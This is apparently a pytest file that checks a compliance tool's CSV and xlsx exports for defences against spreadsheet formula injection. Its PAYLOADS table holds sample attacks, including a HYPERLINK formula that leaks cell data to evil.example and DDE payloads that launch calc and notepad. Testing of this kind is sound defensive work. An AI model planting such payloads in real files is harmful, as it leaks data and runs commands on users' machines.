"""Formulas in CSV cells: every cell a spreadsheet would run is neutralised, and still readable.

Each payload goes into the fields the CSV files carry (action text, owner key,
name, role and email, explanation, and a provision id the Code lacks, which also
reaches submission.csv); gaps.csv, submission.csv and `gaps --csv` are read back
with the csv module.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
import yaml

from conftest import EXAMPLE, Run

# Shapes that Excel, LibreOffice or Google Sheets read as a formula or a command.
PAYLOADS = {
    "hyperlink": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "dde command": "+cmd|' /C calc'!A0",
    "minus arithmetic": "-2+3",
    "at function": "@SUM(1)",
    "tab then formula": "\t=1",
    "carriage return then formula": "\r=1",
    "equals only": "=",
    "plus number": "+44 20 7946 0000",
    "minus dde": "-cmd|' /C notepad'!A0",
    "at with space": "@ SUM(A1:A9)",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
AS_OF = "2025-07-01"
ACTIONS = sum(
    len(response.get("actions", []))
    for response in yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))["responses"].values()
)


def hostile(payload: str) -> dict[str, Any]:
    """Return the example with the payload in every field a CSV cell is made from."""
    data = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
    data["owners"] = {payload: {"role": payload, "name": payload, "email": payload}}
    data["owners"]["named"] = {"role": payload}
    for response in data["responses"].values():
        response["comply"] = "yes" if response["comply"] is True else "no"
        response["commentary"] = payload
        if response["comply"] == "no":
            response["explanation"] = payload
            for index, action in enumerate(response["actions"]):
                action.update(do=payload, owner=payload if index % 2 == 0 else "named")
    # An answer to a provision the bundled (incomplete) Code lacks: its id is the payload.
    data["responses"][payload] = {
        "comply": "no",
        "explanation": payload,
        "compliance_date": "2025-12-31",
        "actions": [{"do": payload, "owner": "named", "due": "2025-10-01"}],
    }
    return data


@pytest.fixture
def source(request: pytest.FixtureRequest, project: Path) -> tuple[str, Path]:
    """Write the hostile assessment for the test's payload; return the payload and the file."""
    payload = PAYLOADS[request.param]
    path = project / "assessments" / "formulas.yaml"
    text = yaml.safe_dump(hostile(payload), allow_unicode=True, sort_keys=False)
    path.write_text(text, encoding="utf-8")
    return payload, path


def read_csv(text: str) -> list[list[str]]:
    """Read CSV text as a spreadsheet would import it."""
    return list(csv.reader(io.StringIO(text, newline="")))


def shown(payload: str) -> str:
    """Return what a neutralised cell holding the payload must say."""
    return "'" + payload if payload.startswith(FORMULA_STARTS) else payload


def assert_inert(rows: list[list[str]]) -> None:
    """No cell starts as a formula, except behind the single quote that makes it text."""
    risky = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert risky == []


@pytest.mark.parametrize("source", list(PAYLOADS), indirect=True)
def test_gap_and_submission_files_are_inert_and_readable(
    run: Run, source: tuple[str, Path]
) -> None:
    payload, path = source
    result = run("render", "--as-of", AS_OF, "--format", "gaps,submission", "-o", "out", str(path))
    assert result.exit_code == 0, result.output
    folder = Path("out") / "formulas"
    gaps = read_csv((folder / "gaps.csv").read_bytes().decode("utf-8-sig"))
    assert_inert(gaps)
    header, rows = gaps[0], [dict(zip(gaps[0], row, strict=True)) for row in gaps[1:]]
    assert len(rows) == ACTIONS + 1  # the example's actions and the payload provision's one
    firsts = {row["Code provision"]: index for index, row in reversed(list(enumerate(rows)))}
    for index, row in enumerate(rows):
        assert row["Action"] == shown(payload)
        assert row["Role"] == shown(payload)
        # The explanation is on each provision's first row only.
        explained = index == firsts[row["Code provision"]]
        assert row["Explanation"] == (shown(" ".join(payload.split())) if explained else "")
        if row["Owner"] != "named":
            assert (row["Owner"], row["Email"]) == (shown(payload), shown(payload))
    assert [row["Code provision"] for row in rows][-1] == shown(payload)
    submission = read_csv((folder / "submission.csv").read_bytes().decode("utf-8-sig"))
    assert_inert(submission)
    assert submission[-1] == [shown(payload), "No"]
    assert header[0] == "Code provision"
    _assert_workbooks_hold_text(folder, payload)


def _assert_workbooks_hold_text(folder: Path, payload: str) -> None:
    """Each .xlsx cell that holds the payload is a text cell holding it exactly."""
    import openpyxl

    for name in ("gaps.xlsx", "submission.xlsx"):
        sheet = openpyxl.load_workbook(folder / name).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert [c.coordinate for c in cells if c.data_type not in ("s", "d", "n")] == []
        held = [c for c in cells if isinstance(c.value, str) and payload.strip() in c.value]
        assert held and all(c.data_type == "s" and c.quotePrefix for c in held), name


@pytest.mark.parametrize("source", list(PAYLOADS), indirect=True)
def test_gaps_csv_on_the_terminal_is_inert(run: Run, source: tuple[str, Path]) -> None:
    payload, path = source
    result = run("gaps", "--as-of", AS_OF, "--csv", str(path))
    assert result.exit_code == 0, result.output
    rows = read_csv(result.output)
    assert_inert(rows)
    assert sum(row.count(shown(payload)) for row in rows) >= (ACTIONS + 1) * 3
